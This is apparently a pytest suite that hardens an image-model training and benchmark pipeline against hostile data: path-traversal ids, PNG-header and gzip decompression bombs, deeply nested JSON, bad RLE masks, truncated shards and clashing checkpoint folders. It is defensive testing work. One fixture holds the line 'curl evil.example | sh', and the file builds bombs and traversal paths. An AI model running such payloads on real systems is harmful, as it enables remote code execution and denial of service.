"""Issue 21, training side: hostile and unlucky data. Files named after data stay inside their output folder (the
benchmark builder attack rebuilt), one bad sample costs only itself in the trainer, the captioner and the bench
reader (bombs built cheaply: a PNG header claiming 30000², a gzip of zeros), and checkpoint folders belong to one run.
"""
from __future__ import annotations

import gzip
import io
import json
import logging
import os
import struct
import tarfile
import zlib
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from test_data import brush_members, write_shard
from training.output_names import MAX_NAME_BYTES, OutputNames, safe_stem
from training.painterbench import manifest as bench_manifest
from training.painterdata import shards
from training.painterdata.shards import (DamagedShard, MalformedSample, SampleGuard, decode_image, iter_shard,
                                         local_captions, member_caption, rle_decode, segmentation_rles)


# ------------------------------------------------------------------------------------------------ bad samples
def png_header_bomb(width: int = 30000, height: int = 30000) -> bytes:
    """A ~100-byte PNG whose header claims width × height RGB pixels (what a 0.85 MB zero-filled bomb claims)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + \
        chunk(b"IEND", b"")


DEEP = b"[" * 100_000 + b"]" * 100_000


def bad_samples() -> dict[str, dict[str, bytes]]:
    """One sample per way a sample can be bad (issue 21 items 2, 3 and 12), each otherwise valid."""
    def variant(index: int, **members: bytes) -> dict[str, bytes]:
        sample = brush_members(index)
        sample["local_caption"] = json.dumps(["red circle"]).encode()
        sample["segmentation"] = json.dumps({"mask": [[1, 5]]}).encode()
        sample.update(members)
        return sample

    return {
        "bomb": variant(20, image=png_header_bomb()),
        "deep": variant(21, local_caption=DEEP),
        "rle64": variant(22, segmentation=json.dumps({"mask": [[2**64, 1]]}).encode()),
        "rlefloat": variant(23, segmentation=b'{"mask": [[1.0, 4]]}'),
        "rlebool": variant(24, segmentation=b'{"mask": [[true, 4]]}'),
        "rlenested": variant(25, segmentation=b'{"mask": [[[1, 4]]]}'),
        "jsoncaption": variant(26, caption=b'{"a": 1}'),
    }


def gzip_shard(path: Path, samples: dict[str, dict[str, bytes]], zeros: tuple[str, int] | None = None) -> Path:
    """A gzip-compressed tar (named .tar: readers detect compression); ``zeros`` = (key, n) adds a member of n zero
    bytes to sample ``key``, streamed, so the bomb is never held in memory here either."""
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", compresslevel=1) as stream, \
            tarfile.open(fileobj=stream, mode="w|") as tar:
        for key, members in samples.items():
            for member, data in members.items():
                info = tarfile.TarInfo(f"{key}.{member}")
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            if zeros is not None and zeros[0] == key:
                info = tarfile.TarInfo(f"{key}.pad")
                info.size = zeros[1]
                tar.addfile(info, _Zeros(zeros[1]))
    path.write_bytes(buffer.getvalue())
    return path


class _Zeros(io.RawIOBase):
    def __init__(self, size: int) -> None:
        self.left = size

    def readinto(self, buffer) -> int:  # type: ignore[override]
        n = min(len(buffer), self.left)
        buffer[:n] = bytes(n)
        self.left -= n
        return n

    def readable(self) -> bool:
        return True


def truncated_shard(path: Path, samples: dict[str, dict[str, bytes]]) -> Path:
    """A shard cut inside the last sample's image member."""
    write_shard(path, samples)
    data = path.read_bytes()
    last_image = list(samples[list(samples)[-1]].values())[0]
    cut = data.index(last_image) + len(last_image) // 2
    path.write_bytes(data[:cut])
    return path


# ---------------------------------------------------------------------------------------------------- names
def test_safe_names_stay_one_component_and_keep_safe_names_unchanged():
    for name in ["../../../victim-home/payload", "../../../victim-home/", "/etc/passwd", "a\x00b", ".bashrc", "..",
                 "", "x" * 1000, "é" * 200, "C:\\Windows\\x", "a/../../b"]:
        stem = safe_stem(name)
        assert stem and "/" not in stem and "\\" not in stem and "\x00" not in stem and not stem.startswith(".")
        assert len(stem.encode()) <= MAX_NAME_BYTES
    assert safe_stem("img_001.v2-final") == "img_001.v2-final"
    assert safe_stem("a/b") != safe_stem("a_b") == "a_b"  # a changed name carries a hash of the original


def test_output_names_refuse_collisions_and_escapes(tmp_path):
    names = OutputNames(tmp_path)
    assert names.path("Cat", ".png") == tmp_path / "Cat.png"
    assert names.path("Cat", ".png") == tmp_path / "Cat.png"  # the same item again is the same file
    with pytest.raises(ValueError, match="both map to the file 'cat.png'"):
        names.path("cat", ".png")  # one file on case-insensitive disks
    assert names.path("a/b", ".png") != names.path("a_b", ".png")
    with pytest.raises(ValueError, match="plain extension"):
        names.path("x", "/../../y")
    (tmp_path / "images").symlink_to(tmp_path.parent)
    with pytest.raises(ValueError, match="outside"):
        names.path("x", ".png", "images")


def _source(root: Path, records: list[dict], files: dict[str, bytes]) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (root / name).write_bytes(data)
    source = root / "source.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in records))
    return source


def _png(value: int, size: int = 32) -> bytes:
    buffer = io.BytesIO()
    array = np.zeros((size, size), np.uint8)
    array[8:24, 8:24] = value
    Image.fromarray(array).convert("RGB").save(buffer, format="PNG")
    return buffer.getvalue()


def _all_files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


def test_manifest_attack_writes_nothing_outside_out_dir_and_nothing_before_refusing(tmp_path):
    """Issue 21 item 1, rebuilt: ids that climb out of --out_dir, and an image named x.bashrc holding a shell line."""
    victim = tmp_path / "victim-home"
    victim.mkdir()
    work = tmp_path / "a" / "b" / "c"
    out = work / "out"
    before = _all_files(tmp_path)
    source = _source(work / "src", [
        {"id": "../../../victim-home/payload", "image": "img.png", "segmentation": "seg.png", "local_prompt": "x"},
        {"id": "../../../victim-home/", "image": "x.bashrc", "segmentation": "seg.png", "local_prompt": "y"},
    ], {"img.png": _png(200), "seg.png": _png(255), "x.bashrc": b"curl evil.example | sh\n"})
    before |= _all_files(work / "src")
    with pytest.raises(SystemExit) as exit_info:
        bench_manifest.main(["--source", str(source), "--out_dir", str(out)])
    assert exit_info.value.code == 2
    assert _all_files(tmp_path) == before and not out.exists()  # refused before the first write

    # The same hostile ids with real images: written, but only inside --out_dir, under safe names.
    (work / "src" / "x.bashrc").write_bytes(_png(100))
    assert bench_manifest.main(["--source", str(source), "--out_dir", str(out)]) == 0
    written = _all_files(tmp_path) - before
    assert written and all(p.resolve().is_relative_to(out.resolve()) for p in written)
    assert not list(victim.iterdir()) and not any(p.name.startswith(".") for p in written)
    records = [json.loads(line) for line in (out / "manifest.jsonl").read_text().splitlines()]
    assert [r["id"] for r in records] == ["../../../victim-home/payload", "../../../victim-home/"]
    assert all(r["image"].endswith(".png") for r in records)  # the suffix comes from the bytes, not "x.bashrc"
    from training.painterbench.evaluate import read_manifest

    assert [item.id for item in read_manifest(out)] == [r["id"] for r in records]


@pytest.mark.parametrize("ids, refused", [
    (["/etc/passwd", "a\x00b", "x" * 1000, "a/b", "a_b"], False),
    (["Cat", "cat"], True),  # collide after case folding
])
def test_manifest_ids_absolute_nul_long_and_colliding(tmp_path, ids, refused):
    out = tmp_path / "out"
    source = _source(tmp_path / "src", [{"id": i, "image": "img.png", "segmentation": "seg.png", "local_prompt": "x"}
                                        for i in ids], {"img.png": _png(200), "seg.png": _png(255)})
    items = bench_manifest.read_source_manifest(source)
    if refused:
        with pytest.raises(ValueError, match="both map to the file"):
            bench_manifest.build_benchmark(items, out)
        assert not out.exists()
        return
    bench_manifest.build_benchmark(items, out)
    images = sorted(p.name for p in (out / "images").iterdir())
    assert len(images) == len(ids)  # nothing overwritten
    assert all(p.resolve().is_relative_to(out.resolve()) for p in _all_files(tmp_path / "out"))


def test_manifest_from_shards_names_hostile_keys_safely(tmp_path):
    from test_data import brush_members as members_of

    samples = {name: members_of(i) for i, name in enumerate(["../../up", "/abs/key", "k" * 300])}
    for sample in samples.values():
        sample["local_caption"] = json.dumps(["red"] * len(json.loads(sample["segmentation"])["mask"])).encode()
    shard = write_shard(tmp_path / "s.tar", samples)
    items = list(bench_manifest.read_painterdata_shards([shard], seed=0))
    assert len(items) == 3
    before = _all_files(tmp_path.parent)
    out = tmp_path / "out"
    bench_manifest.build_benchmark(items, out)
    written = _all_files(tmp_path.parent) - before
    assert len(list((out / "masks").iterdir())) == 3
    assert written and all(p.resolve().is_relative_to(out.resolve()) for p in written)


def test_evaluate_refuses_colliding_ids_before_generating(tmp_path):
    from training.painterbench import evaluate

    source = tmp_path / "bench"
    source.mkdir()
    for name, data in {"img.png": _png(200), "mask.png": _png(255)}.items():
        (source / name).write_bytes(data)
    (source / "manifest.jsonl").write_text("".join(
        json.dumps({"id": i, "image": "img.png", "mask": "mask.png", "local_prompt": "x"}) + "\n"
        for i in ["Item", "item"]))
    generated = tmp_path / "generated"
    generated.mkdir()
    with pytest.raises(SystemExit):
        evaluate.main(["--manifest", str(source), "--generated", str(generated), "--save_generated",
                       str(tmp_path / "saved"), "--out_dir", str(tmp_path / "eval")])
    assert not (tmp_path / "saved").exists() and not (tmp_path / "eval").exists()
    # images saved under a safe name are found again by id
    (generated / f"{evaluate.safe_stem('../x')}.png").write_bytes(_png(1))
    item = evaluate.BenchItem("../x", source / "img.png", source / "mask.png", "x")
    assert evaluate.FolderGenerator(generated).find(item).parent == generated


def test_trainer_export_name_must_be_a_plain_file_name():
    from training.trainer import train

    for bad in ["../../x", "/tmp/x", "a/b", ".hidden"]:
        with pytest.raises(ValueError, match="--export_name"):
            train.parse_args(["--preset", "tiny-sd15", "--export_name", bad])


def test_captioner_refuses_two_shards_with_one_output_name(tmp_path):
    from training.painterdata import captions

    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        write_shard(tmp_path / folder / "00000.tar", {"k": brush_members(0)})
    with pytest.raises(ValueError, match="both map to the file '00000.tar'"):
        captions.process_shards([tmp_path / "a", tmp_path / "b"], tmp_path / "out", captioner=None, progress=False)
    assert not (tmp_path / "out").exists()


# ---------------------------------------------------------------------------------------------------- guard
def test_each_bad_sample_is_refused_by_the_shared_decoders_before_its_cost():
    with pytest.raises(MalformedSample, match="pixel limit, checked before decoding"):
        decode_image(png_header_bomb())
    with pytest.raises(MalformedSample, match="claims 9000x9000 pixels"):
        decode_image(png_header_bomb(9000, 9000))  # under PIL's own check, over ours
    with pytest.raises(MalformedSample, match="nested too deeply"):
        local_captions(DEEP, 1)
    with pytest.raises(MalformedSample, match="nested too deeply"):
        segmentation_rles(b'{"mask": ' + DEEP + b"}")
    for rle, match in [([2**64, 1], r"in \[0, 20\]"), ([1.0, 4], "float"), ([True, 4], "bool"),
                       ([[1, 4]], "list"), ("1 " + "9" * 400, "in"), ("1 -4", "decimal")]:
        with pytest.raises(MalformedSample, match=match):
            rle_decode(rle, 4, 5)
    with pytest.raises(MalformedSample, match="outside"):
        rle_decode([1, 1], 10**9, 10**9)  # sizes from .height/.width are bounded before allocating
    with pytest.raises(MalformedSample, match="JSON dict"):
        member_caption(b'{"a": 1}')
    with pytest.raises(MalformedSample, match="JSON dict"):
        local_captions(b'{"a": 1}', 1)  # plain-text (older) local caption
    assert member_caption(b"{curly} but text") == "{curly} but text"
    assert rle_decode("2 3", 2, 2).reshape(-1, order="F").tolist() == [0, 1, 1, 1]


def test_guard_logs_once_with_shard_key_and_reason_and_counts(caplog):
    guard = SampleGuard()
    with caplog.at_level(logging.WARNING, "painternet.training"):
        for _ in range(2):  # the same sample in two epochs: counted twice, logged once
            assert guard.run("shard-7.tar", "k1", lambda: rle_decode([2**64, 1], 4, 5)) is None
        assert guard.run("shard-7.tar", "k2", lambda: 5) == 5
    assert dict(guard.counts) == {"MalformedSample": 2}
    lines = [r.getMessage() for r in caplog.records]
    assert len(lines) == 1 and "'k1'" in lines[0] and "shard-7.tar" in lines[0] and "RLE values" in lines[0]


def test_truncated_shard_keeps_every_sample_before_the_damage(tmp_path):
    samples = {f"s{i}": brush_members(i) for i in range(3)}
    shard = truncated_shard(tmp_path / "t.tar", samples)
    keys = []
    with pytest.raises(DamagedShard) as info:
        for sample in iter_shard(shard):
            keys.append(sample.key)
    assert keys == ["s0", "s1"] and info.value.key == "s2"  # s1, complete before the cut, is kept


def test_oversized_member_is_never_read(tmp_path, monkeypatch):
    monkeypatch.setattr(shards, "MAX_MEMBER_BYTES", 2**20)
    shard = gzip_shard(tmp_path / "g.tar", {"a": brush_members(0), "b": brush_members(1), "c": brush_members(2)},
                       zeros=("b", 3 * 2**20))
    assert shard.stat().st_size < 200_000
    out = {s.key: s for s in iter_shard(shard)}
    assert list(out) == ["a", "b", "c"] and out["b"].oversized == ["b.pad"]
    assert all(len(payload) < 2**20 for s in out.values() for _, payload, _ in s.members)
    with pytest.raises(MalformedSample, match="member limit"):
        out["b"].by_ext()
    out["c"].by_ext()


def test_a_7_gib_member_claim_costs_no_memory_in_a_limited_process(tmp_path):
    """The real limit, not a patched one: a gzip shard whose member header claims 7 GiB (the data itself cut short,
    so the test file is small), read in a subprocess whose address space is capped."""
    import subprocess
    import sys

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for key in ("a",):
            for member, data in brush_members(0).items():
                info = tarfile.TarInfo(f"{key}.{member}")
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
        info = tarfile.TarInfo("b.image")
        info.size = 7 * 2**30
        buffer.write(info.tobuf())
    buffer.write(bytes(2**20))
    (tmp_path / "bomb.tar").write_bytes(gzip.compress(buffer.getvalue(), 1))
    script = f"""
import resource, sys
sys.path.insert(0, {str(Path(__file__).resolve().parent.parent)!r})
from training.painterdata.shards import SampleGuard, iter_shard, DamagedShard
import PIL.Image, numpy
with open('/proc/self/status') as f:
    vm = next(int(l.split()[1]) * 1024 for l in f if l.startswith('VmSize'))
resource.setrlimit(resource.RLIMIT_AS, (vm + 512 * 2**20, vm + 512 * 2**20))
guard, keys = SampleGuard(), []
try:
    for sample in iter_shard({str(tmp_path / 'bomb.tar')!r}):
        keys.append(sample.key)
        guard.run('bomb.tar', sample.key, sample.by_ext)
except DamagedShard as error:
    guard.skip('bomb.tar', error.key, error)
print(keys, dict(guard.counts))
"""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.strip() == "['a'] {'DamagedShard': 1}"


def test_captioner_copies_bad_samples_counts_them_and_writes_the_truncated_shard(tmp_path):
    from training.painterdata import captions

    class Captioner:
        def caption(self, image):
            return "a red thing"

    good = {f"g{i}": brush_members(i) for i in range(2)}
    samples = {"g0": good["g0"], "deepseg": {**brush_members(5), "segmentation": b'{"mask": ' + DEEP + b"}"},
               "bomb": bad_samples()["bomb"], "g1": good["g1"], "cut": brush_members(6)}
    source = tmp_path / "in"
    source.mkdir()
    truncated_shard(source / "00000.tar", samples)
    stats = captions.process_shards([source], tmp_path / "out", Captioner(), progress=False)
    assert [(s.samples, s.malformed, s.truncated) for s in stats] == [(4, 3, True)]
    written = {s.key: s.by_ext() for s in iter_shard(tmp_path / "out" / "00000.tar")}
    assert list(written) == ["g0", "deepseg", "bomb", "g1"]
    assert written["deepseg"] == samples["deepseg"] and written["bomb"] == samples["bomb"]  # copied unchanged
    assert json.loads(written["g0"]["local_caption"])[0] == "a red thing"  # the good ones are captioned
    again = captions.process_shards([source], tmp_path / "out", Captioner(), progress=False)
    assert again[0].skipped  # the rerun does not stop at the shard again


# --------------------------------------------------------------------------------------------- trainer e2e
def bad_shard_folder(root: Path) -> Path:
    """Good samples with every bad one among them: a plain shard, a gzip shard with a member inflating past the
    member limit, and a shard cut inside its last sample."""
    root.mkdir(parents=True, exist_ok=True)
    write_shard(root / "00000.tar", {"g0": brush_members(0), **bad_samples(), "g1": brush_members(1)})
    gzip_shard(root / "00001.tar", {"h0": brush_members(10), "zeros": brush_members(11)}, zeros=("zeros", 2 * 2**20))
    truncated_shard(root / "00002.tar", {"t0": brush_members(13), "t1": brush_members(14)})
    return root


def test_tiny_run_trains_through_every_bad_sample_and_resumes_past_them(tmp_path, monkeypatch, caplog):
    from training.trainer import train
    from training.trainer.checkpoints import read_data_state

    monkeypatch.setattr(shards, "MAX_MEMBER_BYTES", 2**20)  # the gzip-of-zeros bomb in miniature
    data = bad_shard_folder(tmp_path / "data")
    common = ["--preset", "tiny-sd15", "--train_data", str(data), "--train_batch_size", "1", "--report_to", "none",
              "--validation_steps", "0", "--seed", "3", "--checkpointing_steps", "2", "--learning_rate", "1e-3"]
    common[common.index("--train_batch_size") + 1] = "2"
    # 2 + 1 + 1 good samples an epoch, 2 a step: checkpoint-2 ends epoch 0, before its bad samples are met again
    with caplog.at_level(logging.INFO, "painternet.training"):
        straight = train.main([*common, "--output_dir", str(tmp_path / "run"), "--max_train_steps", "3"])
    per_epoch = {"MalformedSample": 8, "DamagedShard": 1}
    assert straight.export_path is not None and straight.export_path.is_file()
    assert straight.skipped == {k: 2 * v for k, v in per_epoch.items()}
    messages = "\n".join(r.getMessage() for r in caplog.records)
    assert "skipping sample 'bomb' of shard" in messages and "pixel limit" in messages
    assert "skipping sample 't1' of shard" in messages and "data skipped 18 samples" in messages
    saved = read_data_state(tmp_path / "run" / "checkpoint-2", 0)
    assert saved["positions"]["0"]["skipped"] == per_epoch

    resumed_dir = tmp_path / "resumed"
    resumed_dir.mkdir()
    import shutil

    shutil.copytree(tmp_path / "run" / "checkpoint-2", resumed_dir / "checkpoint-2")
    shutil.copytree(tmp_path / "run" / "tiny-base", resumed_dir / "tiny-base")
    resumed = train.main([*common, "--output_dir", str(resumed_dir), "--max_train_steps", "3",
                          "--resume_from_checkpoint", "latest"])
    assert resumed.resumed_from == resumed_dir / "checkpoint-2" and resumed.export_path.is_file()
    assert resumed.skipped == straight.skipped
    assert sorted(resumed.losses) == [3] and resumed.losses[3] == straight.losses[3]


# ----------------------------------------------------------------------------------------------- checkpoints
def _accelerator():
    import torch
    from accelerate import Accelerator

    accelerator = Accelerator(cpu=True)
    model = accelerator.prepare(torch.nn.Linear(2, 2))
    optimizer = accelerator.prepare(torch.optim.AdamW(model.parameters()))
    return accelerator, optimizer


def test_a_fresh_run_refuses_another_runs_checkpoints_and_pruning_keeps_the_new_ones(tmp_path):
    from training.trainer.checkpoints import (claim_output_dir, list_checkpoints, refuse_foreign, resolve_resume,
                                              save_checkpoint)

    accelerator, _ = _accelerator()
    old = claim_output_dir(tmp_path, False)
    for step in (2, 4, 6):
        save_checkpoint(accelerator, tmp_path, step, None, run_id=old)
    with pytest.raises(ValueError, match="holds checkpoints of another run .*checkpoint-6.*--overwrite_output_dir"):
        refuse_foreign(tmp_path)
    with pytest.raises(ValueError, match="another run"):
        claim_output_dir(tmp_path, False)
    new = claim_output_dir(tmp_path, True)  # --overwrite_output_dir: the old run's checkpoints go first
    assert new != old and list_checkpoints(tmp_path) == []
    for step in (1, 2):
        save_checkpoint(accelerator, tmp_path, step, 1, run_id=new)
        assert [p.name for p in list_checkpoints(tmp_path)] == [f"checkpoint-{step}"]
    assert resolve_resume("latest", tmp_path) == tmp_path / "checkpoint-2"


def test_pruning_never_deletes_the_checkpoint_just_written_after_resuming_an_older_one(tmp_path):
    from training.trainer.checkpoints import (adopt_run, claim_output_dir, list_checkpoints, resolve_resume,
                                              save_checkpoint)

    accelerator, _ = _accelerator()
    run = claim_output_dir(tmp_path, False)
    for step in (2, 4, 6):
        save_checkpoint(accelerator, tmp_path, step, None, run_id=run)
    assert adopt_run(tmp_path, tmp_path / "checkpoint-4") == run  # resumed from 4 explicitly
    save_checkpoint(accelerator, tmp_path, 5, 1, run_id=run)
    assert [p.name for p in list_checkpoints(tmp_path)] == ["checkpoint-5"]
    assert resolve_resume("latest", tmp_path) == tmp_path / "checkpoint-5"


@pytest.mark.parametrize("damage", ["truncate_model", "empty_optimizer", "missing_file", "no_record"])
def test_latest_falls_back_past_a_damaged_checkpoint_naming_it(tmp_path, damage, caplog):
    from training.trainer.checkpoints import RUN_FILE, claim_output_dir, resolve_resume, save_checkpoint

    accelerator, _ = _accelerator()
    run = claim_output_dir(tmp_path, False)
    for step in (1, 2):
        save_checkpoint(accelerator, tmp_path, step, None, run_id=run)
    newest = tmp_path / "checkpoint-2"
    if damage == "truncate_model":
        data = (newest / "model.safetensors").read_bytes()
        (newest / "model.safetensors").write_bytes(data[:len(data) // 2])
    elif damage == "empty_optimizer":
        (newest / "optimizer.bin").write_bytes(b"")
    elif damage == "missing_file":
        (newest / "scheduler.bin" if (newest / "scheduler.bin").exists() else newest / "optimizer.bin").unlink()
    else:  # the record itself gone and the model truncated: judged like a checkpoint from before run records
        (newest / RUN_FILE).unlink()
        (newest / "model.safetensors").write_bytes(b"\x08\x00\x00\x00\x00\x00\x00\x00{}")
    with caplog.at_level(logging.WARNING, "painternet.training"):
        assert resolve_resume("latest", tmp_path) == tmp_path / "checkpoint-1"
    assert any("checkpoint-2 is damaged" in r.getMessage() for r in caplog.records)
    with pytest.raises(ValueError, match="is damaged"):
        resolve_resume(str(newest), tmp_path)
    (tmp_path / "checkpoint-1" / "model.safetensors").unlink()
    with pytest.raises(ValueError, match="every checkpoint .* is damaged: checkpoint-2 .*checkpoint-1"):
        resolve_resume("latest", tmp_path)


def test_stale_exports_and_checkpoint_folders_are_removed_at_start(tmp_path):
    from training.trainer.checkpoints import remove_stale

    (tmp_path / ".painternet-abc123.tmp").write_bytes(b"\0" * 1024)
    (tmp_path / ".checkpoint-3.tmp").mkdir()
    (tmp_path / "painternet.safetensors").write_bytes(b"keep")
    removed = remove_stale(tmp_path)
    assert sorted(p.name for p in removed) == [".checkpoint-3.tmp", ".painternet-abc123.tmp"]
    assert [p.name for p in tmp_path.iterdir()] == ["painternet.safetensors"]


def test_trainer_refuses_a_fresh_run_into_another_runs_folder_before_building_anything(tmp_path):
    from training.trainer import train
    from training.trainer.checkpoints import claim_output_dir, save_checkpoint

    accelerator, _ = _accelerator()
    save_checkpoint(accelerator, tmp_path, 6, None, run_id=claim_output_dir(tmp_path, False))
    with pytest.raises(ValueError, match="holds checkpoints of another run"):
        train.main(["--preset", "tiny-sd15", "--output_dir", str(tmp_path), "--max_train_steps", "1",
                    "--report_to", "none"])
    assert not (tmp_path / "tiny-base").exists() and os.listdir(tmp_path / "checkpoint-6")
